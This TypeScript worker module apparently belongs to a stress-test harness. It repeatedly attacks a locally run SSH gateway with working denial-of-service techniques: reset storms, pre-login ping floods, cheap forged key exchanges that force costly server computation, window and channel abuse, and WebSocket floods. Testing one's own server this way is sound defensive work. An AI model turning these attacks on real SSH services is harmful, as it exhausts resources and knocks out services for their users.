// An attacker of the SSH gateway, in a thread of its own.
import { readFileSync } from "node:fs";
import { connect, type Socket } from "node:net";
import { workerData } from "node:worker_threads";
import ssh2 from "ssh2";
import { WebSocket } from "ws";

/** The attacks, each repeated without end. */
export type SshAttack =
  | "none"
  | "resets"
  | "requestsBeforeLogin"
  | "finiteFields"
  | "curves"
  | "sizes"
  | "channels"
  | "pastWindow"
  | "largeWindow"
  | "packetSize"
  | "pendingDevice"
  | "recordedOutput";

/** The data that a thread is started with. */
export interface SshOrder {
  readonly attack: SshAttack;
  readonly port: number;
  readonly url: string;
  /** `login@namespace.device`, and the path of the key that gets in. */
  readonly to: string;
  readonly key: string;
  /** Token of a device that waits to be accepted. */
  readonly pending: string;
}

/** The parts of the library's client that break the rules. */
interface Protocol {
  session(channel: number, window: number, packet: number): void;
  channelData(channel: number, data: Buffer): void;
  ping(): void;
}

const { attack, port, url, to, key, pending } = workerData as SshOrder;
/** Another address than that of healthy clients. */
const FROM = "127.0.0.66";

process.on("uncaughtException", () => {});

function open(localPort?: number): Socket {
  const socket = connect({ port, host: "127.0.0.1", localAddress: FROM, ...(localPort && { localPort }) });
  socket.on("error", () => {});
  return socket;
}

/** Runs work again and again, with a pause for what it has begun to end. */
function forever(work: () => Promise<void> | void, pause = 1): void {
  const run = async () => {
    try {
      await work();
    } catch {
      // The other side has closed.
    }
    setTimeout(run, pause);
  };
  void run();
}

/** A connection with a key exchange that costs the server much and the client nothing: it sends a random value. */
function cheapExchange(algorithm: string, value: Buffer): void {
  const socket = open();
  const field = (data: Buffer | string) => {
    const bytes = Buffer.from(data as string);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(bytes.length);
    return Buffer.concat([length, bytes]);
  };
  const packet = (payload: Buffer) => {
    const padding = 8 - ((payload.length + 5) % 8) + 8;
    const head = Buffer.alloc(5);
    head.writeUInt32BE(payload.length + padding + 1);
    head.writeUInt8(padding, 4);
    return Buffer.concat([head, payload, Buffer.alloc(padding)]);
  };
  const lists = [algorithm, "ssh-ed25519", "aes128-ctr", "aes128-ctr", "hmac-sha2-256-etm@openssh.com"];
  const [kex = "", hostKey = "", cipher = "", , mac = ""] = lists;
  const offer = Buffer.concat([
    Buffer.from([20]),
    Buffer.alloc(16),
    ...[kex, hostKey, cipher, cipher, mac, mac, "none", "none", "", ""].map(field),
    Buffer.alloc(5),
  ]);
  socket.write("SSH-2.0-attacker\r\n");
  socket.write(packet(offer));
  socket.write(packet(Buffer.concat([Buffer.from([30]), field(value)])));
  socket.on("data", () => {});
  setTimeout(() => socket.destroy(), 1000);
}

/** A client that is logged in. */
function login(): Promise<{ client: ssh2.Client; protocol: Protocol; socket: Socket }> {
  const client = new ssh2.Client();
  const socket = open();
  return new Promise((resolve, reject) => {
    client.on("error", reject);
    client.on("close", reject);
    client.on("ready", () => {
      const { _protocol: protocol } = client as unknown as { readonly _protocol: Protocol };
      resolve({ client, protocol, socket });
    });
    client.connect({ sock: socket, username: to, privateKey: readFileSync(key) });
  });
}

const exec = (client: ssh2.Client, command: string) =>
  new Promise<ssh2.ClientChannel>((resolve, reject) => {
    client.exec(command, (error, channel) =>
      error ? reject(error) : resolve(channel.on("error", () => {})),
    );
  });

const shellOf = (client: ssh2.Client) =>
  new Promise<ssh2.ClientChannel>((resolve, reject) => {
    client.shell((error, channel) => (error ? reject(error) : resolve(channel.on("error", () => {}))));
  });

const wait = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));

const ATTACKS: Readonly<Record<SshAttack, () => void>> = {
  none: () => {},
  resets: () => {
    let localPort = 40_000;
    forever(async () => {
      const socket = open(localPort);
      await new Promise((resolve) => socket.on("connect", resolve).on("close", resolve));
      socket.write("SSH-2.0-broken\r\n");
      socket.write(Buffer.from("0000000c0ac800000000000000000000", "hex"));
      await wait(2);
      socket.resetAndDestroy();
      localPort += Math.random() < 0.1 ? 1 : 0;
    });
  },
  requestsBeforeLogin: () => {
    for (let index = 0; index < 4; index += 1) {
      forever(async () => {
        const client = new ssh2.Client();
        const sock = open();
        const closed = new Promise((resolve) => sock.on("close", resolve));
        client.on("error", () => {});
        client.on("handshake", async () => {
          sock.pause();
          const { _protocol: protocol } = client as unknown as { readonly _protocol: Protocol };
          while (!sock.destroyed) {
            for (let count = 0; count < 2000; count += 1) protocol.ping();
            await wait(1);
          }
        });
        client.connect({ sock, username: to, authHandler: () => {} });
        await closed;
      }, 50);
    }
  },
  finiteFields: () =>
    forever(() => {
      for (let index = 0; index < 4; index += 1) {
        cheapExchange("diffie-hellman-group18-sha512", Buffer.concat([Buffer.of(1), Buffer.alloc(1000, 7)]));
      }
    }, 100),
  curves: () =>
    forever(() => {
      for (let index = 0; index < 30; index += 1) cheapExchange("curve25519-sha256", Buffer.alloc(32, 9));
    }, 20),
  sizes: () =>
    forever(async () => {
      const { client } = await login();
      const shell = await shellOf(client);
      shell.resume();
      for (let round = 0; round < 100; round += 1) {
        for (let count = 0; count < 1000; count += 1) shell.setWindow(24, 1 + count, 0, 0);
        await wait(10);
      }
      client.end();
    }),
  channels: () =>
    forever(async () => {
      const { client } = await login();
      for (let round = 0; round < 200; round += 1) {
        const channels = Array.from({ length: 30 }, () => exec(client, "true").catch(() => undefined));
        for (const channel of await Promise.all(channels)) channel?.resume().close();
      }
      client.end();
    }),
  pastWindow: () =>
    forever(async () => {
      const { client, protocol, socket } = await login();
      const channel = await exec(client, "sleep 60");
      const { outgoing } = channel as unknown as { readonly outgoing: { readonly id: number } };
      // Not a whole number of windows: the library drops what comes when nothing at all is left.
      for (let count = 0; count < 40_000 && !socket.destroyed; count += 1) {
        protocol.channelData(outgoing.id, Buffer.alloc(30_000));
        if (socket.writableLength > 4_000_000) await wait(5);
      }
      client.destroy();
    }),
  largeWindow: () => {
    for (let index = 0; index < 4; index += 1) {
      forever(async () => {
        const { client, protocol, socket } = await login();
        const { session } = protocol;
        protocol.session = (channel, _window, packet) => session.call(protocol, channel, 2 ** 32 - 1, packet);
        await exec(client, "head -c 2000000000 /dev/zero");
        socket.pause();
        await wait(20_000);
        client.destroy();
      });
    }
  },
  packetSize: () =>
    forever(async () => {
      const { client, protocol } = await login();
      const { session } = protocol;
      protocol.session = (channel, window) => session.call(protocol, channel, window, 0);
      try {
        const channel = await exec(client, "echo in");
        await new Promise<void>((resolve) => {
          channel.on("close", () => resolve());
          channel.resume();
        });
      } finally {
        client.destroy();
      }
    }),
  pendingDevice: () =>
    forever(async () => {
      const socket = new WebSocket(`${url.replace("http", "ws")}/ssh/connection`, {
        headers: { Authorization: `Bearer ${pending}` },
      });
      const closed = new Promise((resolve) => socket.on("close", resolve));
      socket.on("error", () => {});
      socket.on("open", async () => {
        const lines = Buffer.from('{"command":"x"}\n'.repeat(50));
        while (socket.readyState === socket.OPEN) {
          for (let count = 0; count < 200; count += 1) socket.send(lines);
          while (socket.bufferedAmount > 1_000_000 && socket.readyState === socket.OPEN) await wait(2);
        }
      });
      await closed;
    }, 100),
  recordedOutput: () =>
    forever(async () => {
      const { client } = await login();
      const shell = await shellOf(client);
      shell.write("yes an endless output of a recorded session\n");
      shell.resume();
      await new Promise<void>((resolve) => void client.on("close", () => resolve()));
    }),
};
ATTACKS[attack]();
